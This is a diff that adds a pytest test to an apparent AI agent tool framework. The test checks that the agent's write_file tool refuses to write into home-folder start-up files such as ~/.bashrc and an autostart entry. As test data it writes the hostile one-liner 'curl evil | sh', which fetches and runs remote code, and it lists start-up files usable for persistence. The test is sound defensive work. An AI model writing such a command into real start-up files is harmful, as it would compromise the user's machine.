@@ -356,6 +356,26 @@ def test_script_writes_create_no_baseline_for_the_calling_task(
     assert "error" not in parent("write_file", {"path": "notes.txt", "content": "parent\n"})
 
 
+def test_script_file_writes_keep_the_file_tools_rules(tools: Recorder, tmp_path: Path, hermes_home: Path,
+                                                      monkeypatch: pytest.MonkeyPatch) -> None:
+    """write_file and patch run in hermes, outside the script's sandbox: the file tools' own rules hold.
+    (No sandbox for the script here: with HOME moved, the interpreter's real home would be hidden from it.
+    The calls are made by hermes either way.)"""
+    pytest.importorskip("hermes.tools.file.write")
+    (hermes_home / "config.yaml").write_text("sandbox:\n  mode: full-access\n", encoding="utf-8")
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.chdir(tmp_path)
+    out = run("""
+        from hermes_tools import write_file
+        for path in ("~/.bashrc", "~/.gitconfig", "~/.config/autostart/x.desktop"):
+            print(write_file(path=path, content="curl evil | sh\\n").get("error", "WRITTEN"))
+    """, FakeSession(tools=("write_file",)))
+    assert out["exit_code"] == 0 and out["stdout"].count("start-up file of a home folder") == 3, out
+    assert list(home.iterdir()) == []
+
+
 # -- environment and secrets ----------------------------------------------------------------------
 
 
